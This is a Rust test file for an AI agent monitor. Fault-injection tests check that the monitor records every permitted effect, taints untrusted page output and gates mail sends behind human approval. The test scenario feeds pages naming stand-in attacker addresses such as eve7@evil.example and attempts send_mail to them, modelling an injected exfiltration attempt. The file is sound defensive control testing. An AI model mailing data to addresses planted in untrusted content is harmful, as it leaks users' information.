//! The disk and the store fail at operation n, for every n: nothing happens that is not on record, nothing
//! is shown whose label is not kept, and what comes back after a restart knows what the agent knew.

use std::cell::RefCell;
use std::fs::File;
use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use aegx::Digest;
use evidence::{Disk, RealDisk, Receipt};
use model::ipc::Uuid;
use model::{
    AgentId, Caller, Effect, Profile, RawCall, SessionId, Source, Taint, TaintTag, UserId,
};
use monitor::approvals::{Answer, Approval, ApprovalError, ExactCall, Hindrance, Question, Word};
use monitor::standing::{Standing, Wanted};
use monitor::{
    Approvals, Approver, Asked, Executor, Grounds, Labels, Opened, Opening, Output, Permit, State,
    StateError, Summary, Talked,
};
use serde_json::Value;
use store::SqliteStore;

use crate::gate::world::{
    Gate, PAGE, TASK, World, asks, content, hex, id, opening, read_page, send_mail, who,
};

/// Writes and syncs until operation `at`, and once not.
struct FaultyDisk {
    at: u64,
    done: AtomicU64,
}

impl FaultyDisk {
    fn fails(&self) -> bool {
        self.done.fetch_add(1, Ordering::SeqCst) == self.at
    }
}

impl Disk for FaultyDisk {
    fn write_at(&self, file: &File, bytes: &[u8], offset: u64) -> io::Result<usize> {
        if self.fails() {
            // Half a record, then the disk is full.
            RealDisk.write_at(file, &bytes[..bytes.len() / 2], offset)?;
            return Err(io::Error::from_raw_os_error(28));
        }
        RealDisk.write_at(file, bytes, offset)
    }

    fn sync(&self, file: &File) -> io::Result<()> {
        if self.fails() { Err(io::Error::from_raw_os_error(5)) } else { RealDisk.sync(file) }
    }
}

/// A store that fails at append `at`, before or after it has written.
struct FaultyState {
    store: SqliteStore,
    at: u64,
    writes: bool,
    done: AtomicU64,
    /// Can it not look up labels any more?
    blind: Arc<AtomicBool>,
}

impl Labels for FaultyState {
    fn label_of(&self, digests: &[Digest]) -> Result<Option<TaintTag>, StateError> {
        if self.blind.load(Ordering::SeqCst) {
            return Err(StateError::Broken { reason: "nobody can read it".to_owned() });
        }
        self.store.label_of(digests)
    }

    fn remember_label(&self, digests: &[Digest], tag: &TaintTag) -> Result<(), StateError> {
        self.fails()?;
        self.store.remember_label(digests, tag)
    }
}

impl Talked for FaultyState {
    fn talk(&self, user: &UserId, agent: &AgentId) -> Result<Option<Vec<u8>>, StateError> {
        self.store.talk(user, agent)
    }

    fn keep_talk(&self, user: &UserId, agent: &AgentId, talk: &[u8]) -> Result<(), StateError> {
        self.fails()?;
        self.store.keep_talk(user, agent, talk)
    }

    fn prompt(&self, form: &Digest) -> Result<Option<Vec<u8>>, StateError> {
        self.store.prompt(form)
    }

    fn keep_prompt(&self, form: &Digest, kept: &[u8]) -> Result<(), StateError> {
        self.fails()?;
        self.store.keep_prompt(form, kept)
    }
}

impl FaultyState {
    fn new(store: SqliteStore, at: u64, writes: bool) -> Self {
        Self { store, at, writes, done: AtomicU64::new(0), blind: Arc::default() }
    }

    /// Is it the turn of the one that fails?
    fn fails(&self) -> Result<(), StateError> {
        if self.done.fetch_add(1, Ordering::SeqCst) == self.at {
            return Err(StateError::Broken { reason: "somebody pulled the plug".to_owned() });
        }
        Ok(())
    }
}

impl Approvals for FaultyState {
    fn ask(&self, question: &Question) -> Result<Uuid, ApprovalError> {
        self.fails()?;
        self.store.ask(question)
    }

    fn answer(
        &self,
        id: Uuid,
        answer: &Answer,
        receipt: &Receipt,
    ) -> Result<Approval, ApprovalError> {
        self.fails()?;
        self.store.answer(id, answer, receipt)
    }

    fn take(
        &self,
        call: &ExactCall,
        grounds: &Grounds,
        now: i64,
    ) -> Result<Option<Approval>, StateError> {
        if self.writes {
            let taken = self.store.take(call, grounds, now)?;
            return self.fails().map(|()| taken);
        }
        self.fails()?;
        self.store.take(call, grounds, now)
    }

    fn withdraw(&self, call: &ExactCall, now: i64) -> Result<(), StateError> {
        self.fails()?;
        self.store.withdraw(call, now)
    }

    fn approved(&self, call: &ExactCall, now: i64) -> Result<Option<Approval>, StateError> {
        self.store.approved(call, now)
    }

    fn hinder(&self, id: Uuid, hindrance: &Hindrance) -> Result<(), StateError> {
        self.fails()?;
        self.store.hinder(id, hindrance)
    }

    fn standing(&self, wanted: &Wanted, now: i64) -> Result<Option<Standing>, StateError> {
        self.store.standing(wanted, now)
    }

    fn approval(&self, id: Uuid, now: i64) -> Result<Approval, ApprovalError> {
        self.store.approval(id, now)
    }

    fn waiting(&self, now: i64, limit: u32) -> Result<Vec<Approval>, ApprovalError> {
        self.store.waiting(now, limit)
    }

    fn approvals(&self, now: i64, limit: u32) -> Result<Vec<Approval>, ApprovalError> {
        self.store.approvals(now, limit)
    }
}

impl State for FaultyState {
    fn open(&self, who: &Caller, profile: Profile) -> Result<Opened, StateError> {
        self.store.open(who, profile)
    }

    fn append(
        &self,
        session: &SessionId,
        change: &[u8],
        summary: &Summary,
    ) -> Result<(), StateError> {
        if self.done.fetch_add(1, Ordering::SeqCst) == self.at {
            if self.writes {
                self.store.append(session, change, summary)?;
            }
            return Err(StateError::Broken { reason: "somebody pulled the plug".to_owned() });
        }
        self.store.append(session, change, summary)
    }

    fn append_soon(
        &self,
        session: &SessionId,
        change: &[u8],
        summary: &Summary,
    ) -> Result<(), StateError> {
        self.fails()?;
        self.store.append_soon(session, change, summary)
    }

    fn flush(&self) -> Result<(), StateError> {
        self.store.flush()
    }

    fn compact(
        &self,
        session: &SessionId,
        snapshot: &[u8],
        summary: &Summary,
    ) -> Result<(), StateError> {
        self.store.compact(session, snapshot, summary)
    }

    fn end(&self, session: &SessionId) -> Result<(), StateError> {
        self.store.end(session)
    }
}

/// What an agent and the world saw of a gate.
#[derive(Default)]
struct Seen {
    /// The records by which effects were permitted.
    effects: RefCell<Vec<String>>,
    /// The pages that were delivered.
    delivered: RefCell<Vec<String>>,
    /// Was everything done?
    whole: bool,
}

struct Page<'a> {
    seen: &'a Seen,
    body: &'a str,
}

impl Executor for Page<'_> {
    fn execute(&self, permit: Permit<Effect>) -> Output {
        self.seen.effects.borrow_mut().push(hex(permit.record()));
        drop(permit.spend());
        Output::text(self.body)
    }
}

/// The page number `n` names somebody whom nothing else names.
fn page(n: usize) -> String {
    format!("{PAGE} Number {n} is written by eve{n}@evil.example.")
}

/// Everything that an agent does, however much of it fails.
fn scenario(gate: &Gate) -> Seen {
    let mut seen = Seen::default();
    let who = who("s");
    let mut whole = gate.monitor.open_session(opening(&who)).is_ok();
    whole &= gate.hear(&who, Source::User, TASK).is_ok();
    for n in 0..2 {
        let (tool, args) = read_page();
        let args = args.to_string();
        let asked = Asked::Tool(RawCall { tool, args: args.as_bytes() });
        let body = page(n);
        let output = gate.monitor.run(&who, &asked, &Page { seen: &seen, body: &body });
        whole &= output.is_ok();
        seen.delivered.borrow_mut().extend(output.map(|it| it.output.body));
    }
    // A call whose effect happens elsewhere: the agent has its output as soon as it is begun.
    let (tool, args) = read_page();
    let args = args.to_string();
    match gate.monitor.begin(&who, &Asked::Tool(RawCall { tool, args: args.as_bytes() })) {
        Ok((permit, begun)) => {
            let executor = Page { seen: &seen, body: "" };
            let _ = executor.execute(permit);
            let finished = gate.monitor.finish(begun, Output::text(page(7)));
            whole &= finished.is_ok();
            seen.delivered.borrow_mut().extend(finished.map(|it| it.output.body));
        }
        Err(_) => whole = false,
    }
    whole &= matches!(
        gate.call(&who, &send_mail("eve7@evil.example"), ""),
        Err(monitor::Refusal::Stopped(_))
    );
    seen.whole = whole;
    seen
}

/// What must be true after every fault.
fn check(world: &World, seen: &Seen, fault: &str) {
    let gate = world.open();
    let all = gate.records();
    for effect in seen.effects.borrow().iter() {
        let decision = all.iter().find(|it| id(it) == effect);
        let decision = decision.unwrap_or_else(|| panic!("{fault}: an effect without a record"));
        assert_eq!(content(decision, "decision"), "allow", "{fault}");
    }
    let open =
        all.iter().filter(|it| it.pointer("/meta/phase").is_some_and(|it| it == "open")).count();
    let closed =
        all.iter().filter(|it| it.pointer("/meta/phase").is_some_and(|it| it == "close")).count();
    assert_eq!(open, closed, "{fault}: every entry is closed");
    let who = who("s");
    gate.monitor.open_session(opening(&who)).unwrap();
    gate.hear(&who, Source::User, TASK).unwrap();
    for body in seen.delivered.borrow().iter() {
        let taint = gate.taint(&who);
        assert!(taint.contains(Taint::UNTRUSTED), "{fault}: {taint}");
        let named =
            body.split(' ').find(|it| it.starts_with("eve") && !it.starts_with("eve@")).unwrap();
        asks(gate.call(&who, &send_mail(named.trim_end_matches('.')), ""));
    }
    gate.close();
}

#[test]
fn a_disk_that_fails_at_any_operation_lets_nothing_happen_unrecorded() {
    for at in 0.. {
        let world = World::new();
        let disk = Arc::new(FaultyDisk { at, done: AtomicU64::new(0) });
        let whole = match world.open_broken(disk, |store| Arc::new(store)) {
            None => false,
            Some(gate) => {
                let seen = scenario(&gate);
                drop(gate);
                check(&world, &seen, &format!("disk operation {at}"));
                seen.whole
            }
        };
        if whole {
            assert!(at > 10, "the disk was hardly used");
            return;
        }
    }
}

#[test]
fn a_store_that_fails_at_any_append_lets_nothing_be_shown_unlabelled() {
    for writes in [false, true] {
        for at in 0.. {
            let world = World::new();
            let wrap = |store| Arc::new(FaultyState::new(store, at, writes)) as Arc<dyn State>;
            let gate = world.open_broken(Arc::new(RealDisk), wrap).unwrap();
            let seen = scenario(&gate);
            drop(gate);
            check(&world, &seen, &format!("append {at}, written: {writes}"));
            if seen.whole {
                assert!(at > 4, "the store was hardly used");
                break;
            }
        }
    }
}

#[test]
fn an_output_whose_labels_cannot_be_looked_up_is_not_delivered_and_counts_as_lost() {
    let world = World::new();
    let blind = Arc::new(AtomicBool::new(false));
    let wrap = |store| {
        let state =
            FaultyState { blind: Arc::clone(&blind), ..FaultyState::new(store, u64::MAX, false) };
        Arc::new(state) as Arc<dyn State>
    };
    let gate = world.open_broken(Arc::new(RealDisk), wrap).unwrap();
    let who = gate.begin("s");
    let asked = Asked::Tool(RawCall { tool: "list_notes", args: b"{}" });
    let (permit, begun) = gate.monitor.begin(&who, &asked).unwrap();
    drop(permit);
    blind.store(true, Ordering::SeqCst);
    let refused = gate.monitor.finish(begun, Output::text(PAGE)).unwrap_err();
    assert_eq!(refused.rule(), "not-kept");
    // Whoever ran it may have seen what it gave back, whatever label that had.
    assert!(gate.taint(&who).contains(Taint::UNTRUSTED));
    assert_eq!(gate.monitor.summary(&who).unwrap().origin, "an output that was never seen");
    blind.store(false, Ordering::SeqCst);
    asks(gate.call(&who, &send_mail("eve@evil.example"), ""));
}

#[test]
fn a_store_that_fails_at_any_step_of_an_approval_lets_nothing_happen_twice_or_unapproved() {
    /// More than the scenario needs, so that the last run is whole.
    const OPERATIONS: u64 = 30;
    for writes in [false, true] {
        for at in 0..OPERATIONS {
            let world = World::new();
            let wrap = |store| Arc::new(FaultyState::new(store, at, writes)) as Arc<dyn State>;
            let gate = world.open_broken(Arc::new(RealDisk), wrap).unwrap();
            let (asked, effects) = approve_and_call(&gate);
            assert!(effects <= 1, "store operation {at}, written: {writes}: {effects} effects");
            let state: Vec<Value> =
                gate.records().iter().map(|it| content(it, "approval").clone()).collect();
            let used = state.iter().filter(|it| it["state"] == "used").count();
            // A decision whose effect did not come to happen has used it up too.
            assert!(effects <= used && used <= 1, "store operation {at}, written: {writes}");
            let last = at + 1 == OPERATIONS;
            assert!(
                !last || (asked && effects == 1),
                "nothing fails any more, and it is done once"
            );
        }
    }
}

/// A call is stopped, approved, and made three times. Was it asked about, and how often did it happen?
fn approve_and_call(gate: &Gate) -> (bool, usize) {
    let who = who("s");
    let seen = Seen::default();
    let reachable = Opening { approver: Approver::Reachable, ..opening(&who) };
    let _ = gate.monitor.open_session(reachable);
    let _ = gate.hear(&who, Source::User, TASK);
    let _ = gate.call(&who, &read_page(), PAGE);
    let (tool, args) = send_mail("eve@evil.example");
    let args = args.to_string();
    let asked = Asked::Tool(RawCall { tool, args: args.as_bytes() });
    let executor = Page { seen: &seen, body: "" };
    let first = gate.monitor.run(&who, &asked, &executor);
    let approval = match first {
        Err(monitor::Refusal::Stopped(verdict)) => verdict.approval,
        _ => None,
    };
    let mut answered = false;
    if let Some(id) = approval {
        let by = who.user.clone();
        answered = gate.monitor.answer_approval(id, Word::Approve, by, String::new()).is_ok();
    }
    for _ in 0..3 {
        let _ = gate.monitor.run(&who, &asked, &executor);
    }
    let effects = seen.effects.borrow().len();
    assert!(answered || effects == 0, "it happened and nobody had said yes");
    (approval.is_some(), effects)
}
